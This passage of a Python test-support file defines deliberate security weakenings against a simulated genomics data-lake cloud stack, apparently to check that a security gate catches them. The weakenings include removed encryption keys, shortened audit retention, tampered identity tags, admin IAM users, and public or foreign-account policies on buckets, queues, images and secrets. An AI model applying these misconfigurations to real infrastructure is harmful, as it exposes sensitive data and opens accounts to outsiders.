def _(s: Stack) -> None:
    put(s.find(LOG_GROUP, "compute-jobs"), "retentionInDays", 7)


@weakening("dp-job-log-group-infrequent-unencrypted", "data-protection", "Batch job log group without its KMS key")
def _(s: Stack) -> None:
    drop(s.find(LOG_GROUP, "compute-jobs"), "kmsKeyId")


@weakening("dp-trail-log-group-no-kms", "data-protection", "CloudTrail log group without its KMS key")
def _(s: Stack) -> None:
    drop(s.find(LOG_GROUP, "audit-logs"), "kmsKeyId")


@weakening("dp-objlock-governance", "data-protection", "audit bucket Object Lock mode GOVERNANCE (bypassable)")
def _(s: Stack) -> None:
    edit(
        s.find(OBJECT_LOCK, "audit-bucket-object-lock"),
        "rule",
        lambda r: r["defaultRetention"].update(mode="GOVERNANCE"),
    )


@weakening("dp-objlock-short-days", "data-protection", "audit bucket Object Lock retention 365 days (HIPAA: 6 years)")
def _(s: Stack) -> None:
    edit(s.find(OBJECT_LOCK, "audit-bucket-object-lock"), "rule", lambda r: r["defaultRetention"].update(days=365))


@weakening("dp-objlock-years-form", "data-protection", "audit bucket Object Lock retention given as years: 1")
def _(s: Stack) -> None:
    edit(
        s.find(OBJECT_LOCK, "audit-bucket-object-lock"),
        "rule",
        lambda r: r.update(defaultRetention={"mode": "COMPLIANCE", "years": 1}),
    )


@weakening(
    "dp-objlock-config-removed",
    "data-protection",
    "audit bucket Object Lock configuration removed (no default retention)",
)
def _(s: Stack) -> None:
    s.remove(OBJECT_LOCK, "audit-bucket-object-lock")


def _sse(s: Stack, logical: str) -> dict:
    return s.find("aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration", logical)


@weakening("dp-bucket-sse-aes256", "data-protection", "variants bucket default encryption AES256 (no customer key)")
def _(s: Stack) -> None:
    edit(
        _sse(s, "data-variants-encryption"),
        "rules",
        lambda rules: rules[0].update(applyServerSideEncryptionByDefault={"sseAlgorithm": "AES256"}),
    )


@weakening(
    "dp-bucket-sse-foreign-key", "data-protection", "fastq bucket default encryption with a foreign account's KMS key"
)
def _(s: Stack) -> None:
    edit(
        _sse(s, "data-fastq-encryption"),
        "rules",
        lambda rules: rules[0]["applyServerSideEncryptionByDefault"].update(
            kmsMasterKeyId=f"arn:aws:kms:{s.region}:{FOREIGN}:key/0f0e0d0c-0b0a-0908-0706-050403020100"
        ),
    )


@weakening("dp-bucket-sse-aws-managed-key", "data-protection", "alignments bucket default encryption with alias/aws/s3")
def _(s: Stack) -> None:
    edit(
        _sse(s, "data-alignments-encryption"),
        "rules",
        lambda rules: rules[0]["applyServerSideEncryptionByDefault"].update(kmsMasterKeyId="alias/aws/s3"),
    )


@weakening(
    "dp-bucket-sse-logs-key",
    "data-protection",
    "results bucket default encryption with the logs key instead of the data key",
)
def _(s: Stack) -> None:
    edit(
        _sse(s, "data-results-encryption"),
        "rules",
        lambda rules: rules[0]["applyServerSideEncryptionByDefault"].update(kmsMasterKeyId=s.key_arn("logs")),
    )


@weakening("dp-versioning-suspended", "data-protection", "variants bucket versioning Suspended")
def _(s: Stack) -> None:
    put(
        s.find("aws:s3/bucketVersioning:BucketVersioning", "data-variants-versioning"),
        "versioningConfiguration",
        {"status": "Suspended"},
    )


@weakening(
    "dp-public-access-block-policy-off",
    "data-protection",
    "results bucket blockPublicPolicy and restrictPublicBuckets false",
)
def _(s: Stack) -> None:
    pab = s.find("aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", "data-results-public-access-block")
    put(pab, "blockPublicPolicy", False)
    put(pab, "restrictPublicBuckets", False)


@weakening(
    "dp-account-public-access-block-off",
    "data-protection",
    "account-level S3 public access block restrictPublicBuckets false",
)
def _(s: Stack) -> None:
    put(
        s.find("aws:s3/accountPublicAccessBlock:AccountPublicAccessBlock", "security-s3-public-access-block"),
        "restrictPublicBuckets",
        False,
    )


@weakening("dp-ownership-object-writer", "data-protection", "bcl bucket objectOwnership ObjectWriter (ACLs back on)")
def _(s: Stack) -> None:
    put(
        s.find("aws:s3/bucketOwnershipControls:BucketOwnershipControls", "data-bcl-ownership"),
        "rule",
        {"objectOwnership": "ObjectWriter"},
    )


@weakening("dp-logging-other-target", "data-protection", "variants access logs delivered to a bucket outside the stack")
def _(s: Stack) -> None:
    put(
        s.find("aws:s3/bucketLogging:BucketLogging", "data-variants-logging"),
        "targetBucket",
        f"ops-scratch-{s.account}",
    )


@weakening("dp-logging-removed", "data-protection", "alignments bucket access logging removed")
def _(s: Stack) -> None:
    s.remove("aws:s3/bucketLogging:BucketLogging", "data-alignments-logging")


@weakening("dp-key-rotation-off", "data-protection", "data key enableKeyRotation=false")
def _(s: Stack) -> None:
    put(s.find(KEY, "keys-data"), "enableKeyRotation", False)


@weakening("dp-key-deletion-window-7", "data-protection", "logs key deletionWindowInDays 7")
def _(s: Stack) -> None:
    put(s.find(KEY, "keys-logs"), "deletionWindowInDays", 7)


@weakening("dp-topic-unencrypted", "data-protection", "security alarm topic without its KMS key")
def _(s: Stack) -> None:
    drop(s.find("aws:sns/topic:Topic", "audit-alarms"), "kmsMasterKeyId")


@weakening("dp-bucket-force-destroy", "data-protection", "variants bucket forceDestroy=true (a destroy empties it)")
def _(s: Stack) -> None:
    put(s.find(BUCKET, "data-variants"), "forceDestroy", True)


@weakening("dp-variants-lifecycle-expire", "data-protection", "variants bucket lifecycle expires VCFs after 30 days")
def _(s: Stack) -> None:
    edit(
        s.find(LIFECYCLE, "data-variants-lifecycle"),
        "rules",
        lambda rules: rules.append(
            {"id": "tiering", "status": "Enabled", "filter": {"prefix": ""}, "expiration": {"days": 30}}
        ),
    )


@weakening("dp-ebs-default-encryption-off", "data-protection", "account EBS encryption by default disabled")
def _(s: Stack) -> None:
    put(
        s.find("aws:ebs/encryptionByDefault:EncryptionByDefault", "security-ebs-encryption-by-default"),
        "enabled",
        False,
    )


# ==================================================================================================
# tags-identity: tags the gate may read as identity


@weakening("ti-bucket-datatier-removed", "tags-identity", "variants bucket without its DataTier tag")
def _(s: Stack) -> None:
    edit_tags(s, BUCKET, "data-variants", lambda t: t.pop("DataTier"))


@weakening("ti-bucket-datatier-scratch", "tags-identity", "bcl bucket DataTier tag changed to scratch")
def _(s: Stack) -> None:
    edit_tags(s, BUCKET, "data-bcl", lambda t: t.update(DataTier="scratch"))


@weakening("ti-bucket-datatier-access-logs", "tags-identity", "results bucket DataTier tag says access-logs")
def _(s: Stack) -> None:
    edit_tags(s, BUCKET, "data-results", lambda t: t.update(DataTier="access-logs"))


@weakening("ti-bucket-malwarescan-removed", "tags-identity", "fastq bucket without its MalwareScan tag")
def _(s: Stack) -> None:
    edit_tags(s, BUCKET, "data-fastq", lambda t: t.pop("MalwareScan"))


@weakening("ti-audit-bucket-datatier-changed", "tags-identity", "audit bucket DataTier tag changed to results")
def _(s: Stack) -> None:
    edit_tags(s, BUCKET, "audit-bucket", lambda t: t.update(DataTier="results"))


@weakening("ti-key-purpose-changed", "tags-identity", "data key Purpose tag says logs")
def _(s: Stack) -> None:
    edit_tags(s, KEY, "keys-data", lambda t: t.update(Purpose="logs"))


@weakening("ti-key-purpose-removed", "tags-identity", "compute key without its Purpose tag")
def _(s: Stack) -> None:
    edit_tags(s, KEY, "keys-compute", lambda t: t.pop("Purpose"))


@weakening("ti-key-purpose-swapped", "tags-identity", "logs key Purpose tag says compute")
def _(s: Stack) -> None:
    edit_tags(s, KEY, "keys-logs", lambda t: t.update(Purpose="compute"))


@weakening(
    "ti-role-collaborator-changed", "tags-identity", "broad-variant-lab role tagged Collaborator=pharmaco-analytics"
)
def _(s: Stack) -> None:
    edit_tags(s, ROLE, "collaborators-broad-variant-lab", lambda t: t.update(Collaborator="pharmaco-analytics"))


@weakening("ti-role-collaborator-removed", "tags-identity", "pharmaco collaborator role without its Collaborator tag")
def _(s: Stack) -> None:
    edit_tags(s, ROLE, "collaborators-pharmaco-analytics", lambda t: t.pop("Collaborator"))


@weakening(
    "ti-role-collaborator-account-changed",
    "tags-identity",
    "collaborator role tagged CollaboratorAccount=<foreign account> (trust unchanged)",
)
def _(s: Stack) -> None:
    edit_tags(s, ROLE, "collaborators-broad-variant-lab", lambda t: t.update(CollaboratorAccount=FOREIGN))


@weakening(
    "ti-role-collaborator-access-upgraded",
    "tags-identity",
    "read-only collaborator role tagged CollaboratorAccess=read-write",
)
def _(s: Stack) -> None:
    edit_tags(s, ROLE, "collaborators-broad-variant-lab", lambda t: t.update(CollaboratorAccess="read-write"))


@weakening("ti-role-require-mfa-false", "tags-identity", "collaborator role tagged RequireMfa=false")
def _(s: Stack) -> None:
    edit_tags(s, ROLE, "collaborators-broad-variant-lab", lambda t: t.update(RequireMfa="false"))


@weakening("ti-role-operatorrole-changed", "tags-identity", "auditor role tagged OperatorRole=admin")
def _(s: Stack) -> None:
    edit_tags(s, ROLE, "operators-auditor", lambda t: t.update(OperatorRole="admin"))


@weakening("ti-role-operatorrole-removed", "tags-identity", "admin role without its OperatorRole tag")
def _(s: Stack) -> None:
    edit_tags(s, ROLE, "operators-admin", lambda t: t.pop("OperatorRole"))


@weakening("ti-scan-role-tier-changed", "tags-identity", "bcl malware scan role tagged MalwareScanTier=fastq")
def _(s: Stack) -> None:
    edit_tags(s, ROLE, "security-malware-scan-bcl", lambda t: t.update(MalwareScanTier="fastq"))


def _default_tags(s: Stack, fn: Callable[[dict], None]) -> None:
    provider = s.provider
    value = json.loads(get(provider, "defaultTags"))
    fn(value["tags"])
    put(provider, "defaultTags", json.dumps(value))


@weakening("ti-default-tag-classification-removed", "tags-identity", "provider defaultTags without DataClassification")
def _(s: Stack) -> None:
    _default_tags(s, lambda t: t.pop("DataClassification"))


@weakening("ti-default-tag-classification-public", "tags-identity", "provider defaultTags DataClassification=public")
def _(s: Stack) -> None:
    _default_tags(s, lambda t: t.update(DataClassification="public"))


@weakening(
    "ti-volume-tag-classification-public",
    "tags-identity",
    "launch template tags Batch volumes DataClassification=public",
)
def _(s: Stack) -> None:
    edit(_launch_template(s), "tagSpecifications", lambda specs: specs[0]["tags"].update(DataClassification="public"))


@weakening(
    "ti-bucket-classification-override",
    "tags-identity",
    "variants bucket tag DataClassification=public overrides the default",
)
def _(s: Stack) -> None:
    edit_tags(s, BUCKET, "data-variants", lambda t: t.update(DataClassification="public"))


# ==================================================================================================
# outside-resources: created next to the components, with none of their guarantees


@weakening(
    "or-bucket-bare",
    "outside-resources",
    "a new aws:s3/bucket at the top level with no siblings (no policy, PAB, SSE, logging)",
)
def _(s: Stack) -> None:
    name = f"glz-demo-exports-{s.account}"
    s.add(
        BUCKET,
        "exports",
        {"bucket": name, "forceDestroy": False},
        resource_id=name,
        outputs={"arn": f"arn:aws:s3:::{name}", "region": s.region},
    )


@weakening(
    "or-bucket-posing-as-tier", "outside-resources", "a new bare bucket tagged DataTier=variants (posing as a tier)"
)
def _(s: Stack) -> None:
    name = f"glz-demo-variants-copy-{s.account}"
    s.add(
        BUCKET,
        "variants-copy",
        {"bucket": name, "forceDestroy": False, "tags": {"DataTier": "variants"}},
        resource_id=name,
        outputs={"arn": f"arn:aws:s3:::{name}", "region": s.region},
    )


@weakening(
    "or-bucket-inside-component", "outside-resources", "a new bare bucket parented under the GenomicsDataLake component"
)
def _(s: Stack) -> None:
    lake = next(r for r in s.resources if r["type"] == "glz:data:GenomicsDataLake")
    name = f"glz-demo-staging-{s.account}-{s.region}"
    s.add(
        BUCKET,
        "data-staging",
        {"bucket": name, "forceDestroy": False, "tags": {"DataTier": "staging"}},
        resource_id=name,
        outputs={"arn": f"arn:aws:s3:::{name}", "region": s.region},
        parent=lake["urn"],
    )


@weakening(
    "or-bucket-public-website", "outside-resources", "a new bucket with a public-read bucket policy (Principal *)"
)
def _(s: Stack) -> None:
    name = f"glz-demo-reports-{s.account}"
    bucket = s.add(BUCKET, "reports", {"bucket": name}, resource_id=name, outputs={"arn": f"arn:aws:s3:::{name}"})
    s.add(
        BUCKET_POLICY,
        "reports-public",
        {
            "bucket": name,
            "policy": policy_json(
                {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{name}/*"}
            ),
        },
        resource_id=name,
        dependencies=(bucket["urn"],),
    )


def _user(s: Stack, name: str) -> dict:
    return s.add(
        "aws:iam/user:User",
        name,
        {"name": name, "path": "/"},
        resource_id=name,
        outputs={"arn": f"arn:aws:iam::{s.account}:user/{name}", "uniqueId": "AIDA3EXAMPLEUSER0001"},
    )


@weakening(
    "or-user-admin-access-key",
    "outside-resources",
    "a new IAM user with an access key and AdministratorAccess attached",
)
def _(s: Stack) -> None:
    user = _user(s, "ci-deployer")
    s.add(
        "aws:iam/accessKey:AccessKey",
        "ci-deployer-key",
        {"user": "ci-deployer"},
        resource_id="AKIA3EXAMPLEKEY00001",
        outputs={"status": "Active"},
        dependencies=(user["urn"],),
    )
    s.add(
        "aws:iam/userPolicyAttachment:UserPolicyAttachment",
        "ci-deployer-admin",
        {"user": "ci-deployer", "policyArn": ADMIN_POLICY},
        resource_id="ci-deployer-2024",
        dependencies=(user["urn"],),
    )


@weakening("or-user-inline-s3", "outside-resources", "a new IAM user with an access key and an inline s3:* policy")
def _(s: Stack) -> None:
    user = _user(s, "data-sync")
    s.add(
        "aws:iam/accessKey:AccessKey",
        "data-sync-key",
        {"user": "data-sync"},
        resource_id="AKIA3EXAMPLEKEY00002",
        outputs={"status": "Active"},
        dependencies=(user["urn"],),
    )
    s.add(
        "aws:iam/userPolicy:UserPolicy",
        "data-sync-s3",
        {
            "user": "data-sync",
            "name": "s3",
            "policy": policy_json({"Effect": "Allow", "Action": "s3:*", "Resource": "*"}),
        },
        resource_id="data-sync:s3",
        dependencies=(user["urn"],),
    )


@weakening(
    "or-user-group-admin",
    "outside-resources",
    "a new IAM user with a login profile in a group holding AdministratorAccess",
)
def _(s: Stack) -> None:
    user = _user(s, "contractor")
    s.add(
        "aws:iam/userLoginProfile:UserLoginProfile",
        "contractor-login",
        {"user": "contractor", "passwordLength": 20},
        resource_id="contractor",
        dependencies=(user["urn"],),
    )
    s.add(
        "aws:iam/group:Group",
        "ops",
        {"name": "ops"},
        resource_id="ops",
        outputs={"arn": f"arn:aws:iam::{s.account}:group/ops"},
    )
    s.add(
        "aws:iam/groupPolicyAttachment:GroupPolicyAttachment",
        "ops-admin",
        {"group": "ops", "policyArn": ADMIN_POLICY},
        resource_id="ops-admin",
    )
    s.add(
        "aws:iam/userGroupMembership:UserGroupMembership",
        "contractor-ops",
        {"user": "contractor", "groups": ["ops"]},
        resource_id="contractor-ops",
        dependencies=(user["urn"],),
    )


def _role(s: Stack, name: str, trust: dict) -> dict:
    return s.add(
        ROLE,
        name,
        {"name": name, "assumeRolePolicy": policy_json(trust)},
        resource_id=name,
        outputs={"arn": f"arn:aws:iam::{s.account}:role/{name}", "uniqueId": "AROA3EXAMPLEROLE0001"},
    )


@weakening(
    "or-role-trust-foreign-root",
    "outside-resources",
    "a new IAM role trusting a foreign account root, no conditions, ReadOnlyAccess attached",
)
def _(s: Stack) -> None:
    role = _role(
        s, "vendor-support", {"Effect": "Allow", "Principal": {"AWS": FOREIGN_ROOT}, "Action": "sts:AssumeRole"}
    )
    s.add(
        ATTACHMENT,
        "vendor-support-read",
        {"role": "vendor-support", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"},
        resource_id="vendor-support-read",
        dependencies=(role["urn"],),
    )


@weakening(
    "or-role-trust-foreign-bare",
    "outside-resources",
    "a new IAM role trusting the bare foreign account ID with an inline s3:GetObject on *",
)
def _(s: Stack) -> None:
    _role(s, "analytics-reader", {"Effect": "Allow", "Principal": {"AWS": FOREIGN}, "Action": "sts:AssumeRole"})
    put(
        s.find(ROLE, "analytics-reader"),
        "inlinePolicies",
        [{"name": "read", "policy": policy_json({"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"})}],
    )


@weakening(
    "or-role-trust-star-org-condition",
    "outside-resources",
    "a new IAM role trusting Principal * conditioned on another organization's aws:PrincipalOrgID",
)
def _(s: Stack) -> None:
    _role(
        s,
        "org-shared",
        {
            "Effect": "Allow",
            "Principal": {"AWS": "*"},
            "Action": "sts:AssumeRole",
            "Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-partner0001"}},
        },
    )


def _rds(s: Stack, name: str, **flags: Any) -> None:
    inputs = {
        "identifier": name,
        "engine": "postgres",
        "engineVersion": "16.4",
        "instanceClass": "db.t4g.medium",
        "allocatedStorage": 100,
        "username": "pgadmin",
        "dbSubnetGroupName": "default",
        "skipFinalSnapshot": True,
        "storageEncrypted": True,
        "publiclyAccessible": False,
        **flags,
    }
    s.add(
        "aws:rds/instance:Instance",
        name,
        inputs,
        resource_id=f"db-{name}",
        outputs={
            "arn": f"arn:aws:rds:{s.region}:{s.account}:db:{name}",
            "endpoint": f"{name}.abcdefghijkl.{s.region}.rds.amazonaws.com:5432",
        },
    )


@weakening("or-rds-public-unencrypted", "outside-resources", "a new RDS instance, unencrypted and publicly accessible")
def _(s: Stack) -> None:
    _rds(s, "sample-tracking", storageEncrypted=False, publiclyAccessible=True)


@weakening("or-rds-public-encrypted", "outside-resources", "a new RDS instance, encrypted but publicly accessible")
def _(s: Stack) -> None:
    _rds(s, "lims", publiclyAccessible=True)


@weakening("or-rds-unencrypted-private", "outside-resources", "a new private RDS instance without storage encryption")
def _(s: Stack) -> None:
    _rds(s, "variant-index", storageEncrypted=False)


def _lambda_permission(s: Stack, name: str, **inputs: Any) -> None:
    s.add(
        "aws:lambda/permission:Permission",
        name,
        {"action": "lambda:InvokeFunction", "function": "glz-demo-export", "statementId": name, **inputs},
        resource_id=f"glz-demo-export|{name}",
    )


@weakening("or-lambda-permission-star", "outside-resources", "a lambda Permission with principal * (anyone invokes)")
def _(s: Stack) -> None:
    _lambda_permission(s, "anyone", principal="*")


@weakening(
    "or-lambda-permission-url-none",
    "outside-resources",
    "a lambda Permission lambda:InvokeFunctionUrl for * with functionUrlAuthType NONE",
)
def _(s: Stack) -> None:
    _lambda_permission(s, "public-url", principal="*", action="lambda:InvokeFunctionUrl", functionUrlAuthType="NONE")


@weakening("or-lambda-permission-foreign-account", "outside-resources", "a lambda Permission for a foreign account")
def _(s: Stack) -> None:
    _lambda_permission(s, "partner", principal=FOREIGN)


def _queue_policy(s: Stack, principal: Any, actions: Any) -> str:
    arn = f"arn:aws:sqs:{s.region}:{s.account}:glz-demo-events"
    return policy_json({"Effect": "Allow", "Principal": principal, "Action": actions, "Resource": arn})


@weakening(
    "or-sqs-queue-public-policy",
    "outside-resources",
    "a new SQS queue whose policy allows Principal * to send and receive",
)
def _(s: Stack) -> None:
    s.add(
        "aws:sqs/queue:Queue",
        "events",
        {"name": "glz-demo-events", "policy": _queue_policy(s, "*", ["sqs:SendMessage", "sqs:ReceiveMessage"])},
        resource_id=f"https://sqs.{s.region}.amazonaws.com/{s.account}/glz-demo-events",
        outputs={"arn": f"arn:aws:sqs:{s.region}:{s.account}:glz-demo-events"},
    )


@weakening(
    "or-sqs-queue-policy-resource",
    "outside-resources",
    "a new SQS queue plus aws:sqs/queuePolicy allowing {AWS: *} sqs:*",
)
def _(s: Stack) -> None:
    url = f"https://sqs.{s.region}.amazonaws.com/{s.account}/glz-demo-events"
    queue = s.add(
        "aws:sqs/queue:Queue",
        "events",
        {"name": "glz-demo-events"},
        resource_id=url,
        outputs={"arn": f"arn:aws:sqs:{s.region}:{s.account}:glz-demo-events"},
    )
    s.add(
        "aws:sqs/queuePolicy:QueuePolicy",
        "events-policy",
        {"queueUrl": url, "policy": _queue_policy(s, {"AWS": "*"}, "sqs:*")},
        resource_id=url,
        dependencies=(queue["urn"],),
    )


@weakening(
    "or-sqs-queue-foreign-account", "outside-resources", "a new SQS queue whose policy lets a foreign account receive"
)
def _(s: Stack) -> None:
    s.add(
        "aws:sqs/queue:Queue",
        "events",
        {"name": "glz-demo-events", "policy": _queue_policy(s, {"AWS": FOREIGN_ROOT}, "sqs:ReceiveMessage")},
        resource_id=f"https://sqs.{s.region}.amazonaws.com/{s.account}/glz-demo-events",
        outputs={"arn": f"arn:aws:sqs:{s.region}:{s.account}:glz-demo-events"},
    )


def _ecr_policy(s: Stack, name: str, repository: str, principal: Any, actions: list[str]) -> None:
    s.add(
        "aws:ecr/repositoryPolicy:RepositoryPolicy",
        name,
        {
            "repository": repository,
            "policy": policy_json({"Sid": "Share", "Effect": "Allow", "Principal": principal, "Action": actions}),
        },
        resource_id=repository,
        outputs={"registryId": s.account},
    )


@weakening(
    "or-ecr-repository-policy-pull-star",
    "outside-resources",
    "ECR repository policy allowing Principal * to pull the pipeline images",
)
def _(s: Stack) -> None:
    _ecr_policy(
        s,
        "gatk-public",
        "genomics/gatk",
        "*",
        ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer", "ecr:BatchCheckLayerAvailability"],
    )


@weakening(
    "or-ecr-repository-policy-push-star",
    "outside-resources",
    "ECR repository policy allowing {AWS: *} to push (PutImage) the images jobs run by tag",
)
def _(s: Stack) -> None:
    _ecr_policy(
        s,
        "bwa-push",
        "genomics/bwa-mem2",
        {"AWS": "*"},
        ["ecr:PutImage", "ecr:InitiateLayerUpload", "ecr:UploadLayerPart", "ecr:CompleteLayerUpload"],
    )


@weakening(
    "or-ecr-repository-policy-foreign-push",
    "outside-resources",
    "ECR repository policy allowing a foreign account to push images",
)
def _(s: Stack) -> None:
    _ecr_policy(
        s,
        "gatk-vendor",
        "genomics/gatk",
        {"AWS": FOREIGN_ROOT},
        ["ecr:PutImage", "ecr:InitiateLayerUpload", "ecr:UploadLayerPart", "ecr:CompleteLayerUpload"],
    )


@weakening(
    "or-secret-public-policy", "outside-resources", "a Secrets Manager secret whose resource policy allows Principal *"
)
def _(s: Stack) -> None:
    arn = f"arn:aws:secretsmanager:{s.region}:{s.account}:secret:glz-demo-lims-AbCdEf"
    secret = s.add(
        "aws:secretsmanager/secret:Secret",
        "lims-credentials",
        {"name": "glz-demo-lims"},
        resource_id=arn,
        outputs={"arn": arn},
    )
    s.add(
        "aws:secretsmanager/secretPolicy:SecretPolicy",
        "lims-credentials-policy",
        {
            "secretArn": arn,
            "policy": policy_json(
                {"Effect": "Allow", "Principal": "*", "Action": "secretsmanager:GetSecretValue", "Resource": "*"}
            ),
        },
        resource_id=arn,
        dependencies=(secret["urn"],),
    )


def _check_ids() -> None:
    seen: set[str] = set()
    for w in WEAKENINGS:
        if w.id in seen:
            raise ValueError(f"duplicate weakening id {w.id}")
        seen.add(w.id)


_check_ids()
